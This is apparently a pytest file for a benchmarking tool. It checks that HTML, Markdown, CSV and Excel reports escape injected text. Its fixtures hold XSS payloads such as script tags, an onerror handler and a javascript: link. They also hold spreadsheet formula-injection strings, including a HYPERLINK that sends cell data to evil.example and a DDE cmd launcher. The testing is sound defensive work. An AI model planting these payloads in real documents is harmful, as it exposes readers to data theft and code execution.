"""Reports cannot be injected: every plan, path and imported string that reaches a report is
inert in every format (HTML, Markdown, CSV, Excel), and real negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook

from arraybench.report.model import (
    CurvePanel,
    Overlay,
    OverlayLine,
    PointRow,
    ReportModel,
    ReportTable,
    SummaryCell,
    SummaryRow,
    Timeline,
    WorkloadSection,
)
from arraybench.report.render.csv.points import points_csv
from arraybench.report.render.escape import for_spreadsheet
from arraybench.report.render.html.page import render_html
from arraybench.report.render.markdown.page import render_markdown
from arraybench.report.render.xlsx.workbook import write_xlsx

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [SCRIPT, FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)", "\t=1+1", "\r=1+1",
           '<img src=x onerror="alert(2)">', "[x](javascript:alert(3))", "a|b`c*d_e"]  # fmt: skip
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _evil(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


def _model() -> ReportModel:
    panel = CurvePanel(
        mix_label=_evil(0), x_label=_evil(1), x_values=[1.0, 2.0], x_ticks=[_evil(2), _evil(3)],
        throughput_unit="IOPS", throughput=[1000.0, 2000.0], lat_mean_us=[100.0, 150.0],
        lat_p99_us=[200.0, 300.0], optimal_index=1, max_index=1, min_latency_index=0,
    )  # fmt: skip
    cell = SummaryCell(_evil(4), _evil(5), _evil(6))
    values: dict[str, float | None] = {"read_iops": 1000.0, "total_lat_mean_us": -12.5}
    points = [PointRow(_evil(i), _evil(i + 1), 1, 1, _evil(i + 2), values) for i in range(10)]
    return ReportModel(
        title=SCRIPT, run_id=FORMULA, scenario=_evil(2),
        labels={_evil(i): _evil(i + 1) for i in range(10)},
        started="2026-01-01T00:00:00", finished=None, status=_evil(7),
        arraybench_version=_evil(8), engine_version=_evil(9), host=SCRIPT, kernel=FORMULA,
        targets=[_evil(i) for i in range(10)], latency_bound=_evil(3),
        summary_columns=[_evil(0)], summary=[SummaryRow(_evil(i), {_evil(0): cell})
                                             for i in range(10)],
        sections=[WorkloadSection(_evil(i), [panel]) for i in range(3)],
        points=points, point_columns=["read_iops", "total_lat_mean_us"],
        plan_yaml=f"name: {SCRIPT}\n# {FORMULA}\n", job_files={_evil(i): SCRIPT for i in range(3)},
        notes=HOSTILE, tables=[ReportTable(SCRIPT, HOSTILE[:3], [HOSTILE[3:6]], FORMULA)],
        overlays=[Overlay(SCRIPT, FORMULA, [_evil(4), _evil(5)],
                          [OverlayLine(_evil(6), [1.0, 2.0], [3.0, 4.0], [5.0, 6.0])])],
        timelines=[Timeline(SCRIPT, [0.0, 1.0], "IOPS", [1.0, 2.0], [3.0, 4.0],
                            events=[(0.5, SCRIPT)], findings=[FORMULA])],
        provenance=[(SCRIPT, FORMULA)], verdicts=[ReportTable(FORMULA, ["a"], [[SCRIPT]])],
        setup=[("System under test", FORMULA + SCRIPT), ("Fabric", SCRIPT)],
    )  # fmt: skip


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [k for k, _ in attrs if k.startswith("on")]
        self.links += [v or "" for k, v in attrs if k in ("href", "src")]


def test_html_shows_every_hostile_string_as_text() -> None:
    doc = render_html(_model())
    parsed = _Elements()
    parsed.feed(doc)
    assert parsed.tags.count("script") <= 1  # ours, at the end, and nothing else
    assert "img" not in parsed.tags and not parsed.handlers
    assert not [link for link in parsed.links if "javascript" in link or "evil" in link]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in doc  # shown, as the user typed it


def _outside_code(markdown: str) -> str:
    """The Markdown text a renderer interprets: fenced blocks and code spans removed."""
    text = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1\s*$", "", markdown)
    return re.sub(r"(`+)(?:(?!\1).)+?\1", "", text)


def test_markdown_escapes_every_hostile_string() -> None:
    md = render_markdown(_model())
    live = _outside_code(md).replace("<br>", "")
    assert not re.search(r"(?<!\\)<[a-zA-Z/!?]", live), "raw HTML reaches the Markdown"
    assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", live), "a live link in the Markdown"
    assert "\\<script\\>alert(1)\\</script\\>" in md


def _formula_like(value: object) -> bool:
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(points_csv(_model().points))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if _formula_like(c)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert rows[1][-1] == "-12.5"  # a real negative number is not quoted


def test_xlsx_cells_never_start_a_formula(tmp_path: Path) -> None:
    """Text that would start a formula is a text cell with Excel's quote-prefix flag (what
    typing '=1+1 stores), never a formula; a negative number stays a number."""
    path = tmp_path / "r.xlsx"
    write_xlsx(_model(), path)
    book = load_workbook(path)
    flagged, negatives = [], []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula"
                if _formula_like(c.value):
                    assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate}"
                    flagged.append(c.value)
                elif isinstance(c.value, float) and c.value == -12.5:
                    negatives.append(c)
    assert FORMULA in flagged
    assert negatives, "the negative latency lost its number type"


@pytest.mark.parametrize(
    ("value", "out"),
    [("=1+1", "'=1+1"), ("-12.5", "-12.5"), ("-x", "'-x"), ("@a", "'@a"), ("\t1", "'\t1"),
     ("+1e3", "+1e3"), ("-inf", "'-inf"), ("plain", "plain"), (-3.0, -3.0), (None, None)],
)  # fmt: skip
def test_for_spreadsheet(value: object, out: object) -> None:
    assert for_spreadsheet(value) == out


# ------------------------------------------------- the Figures sheet of real workbooks

_FIGURE_PLAN = """\
{engine}name: {name}
scenario: {name}
targets:
  - path: {dir}/t.dat
    size: 32m
timing: {{ramp: 0s, duration: 1s}}
load: {{workers: [1, 2], iodepth: [1]}}
workloads:
  - {{name: rr-4k, group: "=1+1", chart: '=HYPERLINK("http://evil.example","x")',
      pattern: random, bs: 4k, read: 100}}
  - {{name: rr-64k, group: "@SUM(1)", chart: '=HYPERLINK("http://evil.example","x")',
      pattern: random, bs: 64k, read: 100}}
"""


def _figures_formulas(path: Path) -> tuple[list[str], list[str]]:
    """(cells that are formulas, formula-like texts) of the workbook's Figures sheet."""
    ws = load_workbook(path)["Figures"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    formulas = [f"{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if _formula_like(c.value) and c.quotePrefix]
    return formulas, texts


@pytest.mark.usefixtures("fake_engine")
def test_figures_sheet_of_run_and_compare_workbooks_holds_no_formula(tmp_path: Path) -> None:
    """A workload's `chart:` name and a compare label starting with = + - @ reach the Figures
    sheet's titles, headers and series as text (Excel's quote prefix), never as formulas."""
    from arraybench.store.db import Store
    from tests.conftest import main_cli
    from tests.fake_engine import PLAN_LINES

    results = tmp_path / "res"
    for name in ("a", "b"):
        plan = tmp_path / f"{name}.yaml"
        plan.write_text(_FIGURE_PLAN.format(engine=PLAN_LINES, name=name, dir=tmp_path))
        done = main_cli("run", str(plan), "--results", str(results))
        assert done.returncode == 0, done.stderr
    runs = sorted(r.id for r, _ in Store(results, create=False).list_runs())
    run_book, cmp_book = tmp_path / "run.xlsx", tmp_path / "cmp.xlsx"
    done = main_cli("report", runs[0], "--results", str(results), "-o", str(run_book))
    assert done.returncode == 0, done.stderr
    done = main_cli("compare", f"{runs[0]}:=1+1", f"{runs[1]}:@SUM(A1)", "--results",
                    str(results), "-o", str(cmp_book))  # fmt: skip
    assert done.returncode == 0, done.stderr
    formulas, texts = _figures_formulas(run_book)
    assert not formulas, formulas
    assert any(t.startswith('=HYPERLINK("http://evil.example"') for t in texts), texts
    formulas, texts = _figures_formulas(cmp_book)
    assert not formulas, formulas
    assert any(t.startswith("=1+1") for t in texts) and any("@SUM(A1)" in t for t in texts)
